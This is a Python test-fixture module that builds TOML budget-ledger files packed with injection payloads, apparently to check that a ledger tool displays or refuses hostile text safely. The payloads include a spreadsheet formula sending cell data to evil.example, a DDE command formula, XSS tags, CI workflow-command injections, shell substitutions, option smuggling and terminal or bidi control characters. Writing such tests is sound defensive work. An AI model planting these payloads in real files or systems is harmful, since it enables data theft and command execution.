"""Texts that each try to be something else to whatever shows them, and a book that is full of them."""

from pathlib import Path

SHOWN = (
    "[bold red]rich[/] [/closed] [link=https://evil.example]press[/link] [@click=app.quit]",
    ":warning: :100: :smile:",
    '=WEBSERVICE("http://evil.example/"&A1)',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "＝1+1",
    "=cmd|' /C calc'!A0",
    "<script>alert(1)</script><img src=x onerror=alert(1)>\"><b onmouseover='x'>",
    "</failure></testcase><failure/> ]]> &lt;b&gt; &amp; --> <!-- <?x?>",
    "[pay](https://evil.example/x) ![i](http://evil.example/i.png) <https://evil.example/>",
    "see www.evil.example or mail a@evil.example, @team-finance, #1, GH-2 and org/repo#3",
    "[ref]: https://evil.example",
    "`code` **bold** _it_ ~~gone~~ | cell | $x$ \\",
    "# head",
    "::error file=a.toml::no",
    "::set-output name=total::1",
    "##[add-mask]263000 ##[error]x",
    "##vso[task.setvariable variable=a]b",
    "%0A::error::no%25",
    "--output=/tmp/evil",
    "-rf",
    '"}],"amount":"0.00',
    '"""\n[[entry]]\nid = "X-1"',
    "one\n::error::two\n##[error]three\n=1+1\n    four",
    "{0} {{1}} {title} %s %(x)s ${IFS} $(id) `id`",
    "W" * 1500,
)
"""Texts that the gate lets in, for people write such things: each must be shown as it stands."""

REFUSED = (
    *(
        "a\x1b[31mb",
        "a\x1b]8;;https://evil.example\x07b",
        "a\x1b[2Jb",
        "a\x9b31mb",
        "a\x07b",
        "a\x08b",
        "a\x00b",
        "a\x7fb",
    ),
    *("a\u202eb", "a\u2066b", "a\u200eb", "a\u200bb", "a\ufeffb", "a\u00adb", "a\u2028b", "a\U000e0041b", "a\u3164b"),
    *("a\x0bb", "a\x0cb", "a\x85b"),
)
"""Texts that no ledger may hold: what is read would not be what is seen."""

CODES = ("=1+1", "[bold]x", "::error::x", "<b>x", "a|b", "-rf", "+S", "##[error]x", "#1", "www.evil.example")
FILES = (
    *("=1+1", "::error::x", "[bold]x", "<img src=x onerror=alert(1)>", "##[error]x", "-rf", "a\x1b[31mb", "a\u202eb"),
    *("a\nb", "$(id)", "[x](javascript:alert(1))", "&amp;", "a%0A::error::b", "a,b:c"),
)
"""Names of files, which no gate keeps out."""


def quoted(text: str) -> str:
    """Return a text as TOML writes it."""
    return (
        '"'
        + "".join(sign if sign.isprintable() and sign not in '"\\' else f"\\U{ord(sign):08x}" for sign in text)
        + '"'
    )


def book() -> dict[str, str]:
    """Return the files of a book with a payload in every text that it may hold."""
    head = f"format = 1\n[ledger]\ntitle = {quoted(' '.join(SHOWN[:10]))}\norganisation = {quoted(SHOWN[8])}\n"
    head += "".join(
        f'[[body]]\nid = "b{number}"\nname = {quoted(text)}\ndecides = ["budget", {quoted(text)}]\n'
        f'[[source]]\nid = "b{number}"\nname = {quoted(text)}\n'
        f'[[account]]\nid = "b{number}"\nname = {quoted(text)}\nring = "hra"\n'
        for number, text in enumerate(SHOWN)
    )
    head += "".join(f"[[scheme]]\ncode = {quoted(code)}\nname = {quoted(SHOWN[at])}\n" for at, code in enumerate(CODES))
    entries = [_entries(number, text) for number, text in enumerate(SHOWN)]
    files = {f"{name}.toml": "format = 1\n" for name in FILES}
    for number, text in enumerate(entries):
        files[f"{FILES[number % len(FILES)]}.toml"] += text
    return {"council.toml": head, **files}


def _entries(number: int, text: str) -> str:
    said, code, by = quoted(text), quoted(CODES[number % len(CODES)]), f'"b{number}"'
    cited = f"item = {said}, minute = {said}, paragraph = {said}, reference = {said}, report = {said}, url = {said}"
    line = f'year = "2022-23", funding = "capital", account = {by}, source = {by}'
    return f"""
[[entry]]
id = "P-{number}"
kind = "approval"
scheme = {code}
title = {said}
note = {said}
recorded = 2022-02-18
decision = {{ body = {by}, outcome = "approved", decided = 2022-02-17, {cited} }}
lines = [{{ {line}, amount = "5{number:04}.00" }}]
[[entry]]
id = "P-{number}.c"
kind = "correction"
corrects = "P-{number}"
recorded = 2022-03-18
statement = {{ by = {said}, body = {by}, made = 2022-03-17, item = {said}, minute = {said}, url = {said} }}
reason = {said}
title = {said}
was = [{{ {line}, amount = "5{number:04}.00" }}]
now = [{{ {line}, amount = "6{number:04}.00" }}]
[[entry]]
id = "P-{number}.v"
kind = "variation"
type = "virement"
scheme = {code}
title = {said}
note = {said}
basis = {said}
retrospective = {said}
matter = {said}
recorded = 2023-06-18
decision = {{ body = {by}, outcome = "recommended", decided = 2023-06-17, {cited} }}
lines = [{{ {line}, amount = "7.00" }}]
[[entry]]
id = "P-{number}.q"
kind = "quotation"
scheme = {code}
quotes = "P-{number}"
title = {said}
recorded = 2023-06-18
document = {{ title = {said}, dated = 2023-06-17, paragraph = {said}, url = {said} }}
lines = [{{ {line}, amount = "9{number:04}.00", stated = "£9{number:04}" }}]
[[stated_total]]
scope = {{ source = {by} }}
amount = "1.00"
document = {{ title = {said} }}
"""


def lay(folder: Path) -> Path:
    """Write the book into a folder."""
    root = folder / "ledgers"
    root.mkdir()
    for name, text in book().items():
        (root / name).write_text(text, encoding="utf-8", newline="")
    return root
